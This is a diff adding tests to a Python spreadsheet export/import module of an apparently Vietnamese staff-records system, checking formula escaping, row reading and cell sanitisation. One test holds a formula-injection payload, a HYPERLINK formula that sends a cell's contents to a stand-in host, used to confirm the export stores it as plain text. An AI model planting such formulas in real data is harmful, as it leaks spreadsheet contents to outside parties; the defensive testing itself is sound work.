@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import io
+import zipfile
+from decimal import Decimal
 
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from tests.conftest import Cast
 from thuocdo.audit.models import AuditEntry
 from thuocdo.imports.framework import apply
+from thuocdo.imports.sheetrows import splice_rows
 from thuocdo.imports.workbook import INSTRUCTIONS_SHEET, VALUES_SHEET, write_workbook
 from thuocdo.org.models import Assignment, Person
 
@@ -119,3 +123,46 @@ def test_an_empty_agency_gets_a_template_without_empty_dropdowns(cast: Cast) -> 
     data = load_workbook(io.BytesIO(content))["Cán bộ"]
     assert len(data.data_validations.dataValidation) == 5
     assert xlsx([])  # the helper itself builds a readable workbook
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(cast: Cast) -> None:
+    trap = '=HYPERLINK("http://example.invalid/?leak="&B2,"Bấm để xem")'
+    person = cast.person("staff_x")
+    Person.objects.filter(pk=person.pk).update(full_name=trap)
+    exported = write_workbook(KIND, cast.agency_a, KIND.export_rows(cast.agency_a))
+    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    data = load_workbook(io.BytesIO(exported))["Cán bộ"]
+    cell = next(row[1] for row in data.iter_rows(min_row=2) if row[0].value == person.code)
+    assert (cell.value, cell.data_type) == (trap, "s")
+
+
+def test_every_exported_row_is_read_back_even_by_a_reader_that_trusts_dimensions(
+    cast: Cast,
+) -> None:
+    exported = write_workbook(KIND, cast.agency_a, KIND.export_rows(cast.agency_a))
+    streamed = load_workbook(io.BytesIO(exported), read_only=True)["Cán bộ"]
+    codes = [row[0] for row in streamed.iter_rows(min_row=2, values_only=True)]
+    assert len(codes) == 9 and all(codes)
+
+
+def test_spliced_cells_keep_their_types_and_drop_what_xml_cannot_hold() -> None:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["Chữ", "Số", "Thập phân", "Ngày", "Đúng/sai"])
+    sheet.cell(row=2, column=1, value=dt.date(2000, 1, 1)).number_format = "DD/MM/YYYY"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    rows = [
+        ["a\x01b <c> & d\tđ", 7, Decimal("2.50"), dt.date(2026, 2, 28), True],
+        [None, "", None, None, None],
+        ["  giữ khoảng trắng  ", 0, Decimal("-0.5"), dt.date(1900, 3, 1), False],
+    ]
+    spliced = load_workbook(io.BytesIO(splice_rows(buffer.getvalue(), rows, width=5))).active
+    assert spliced is not None
+    read = [list(row) for row in spliced.iter_rows(min_row=2, values_only=True)]
+    assert read[0] == ["ab <c> & d\tđ", 7, 2.5, dt.datetime(2026, 2, 28), True]
+    assert read[1] == [None] * 5
+    assert read[2] == ["  giữ khoảng trắng  ", 0, -0.5, dt.datetime(1900, 3, 1), False]
+    assert spliced.cell(row=2, column=4).number_format == "DD/MM/YYYY"
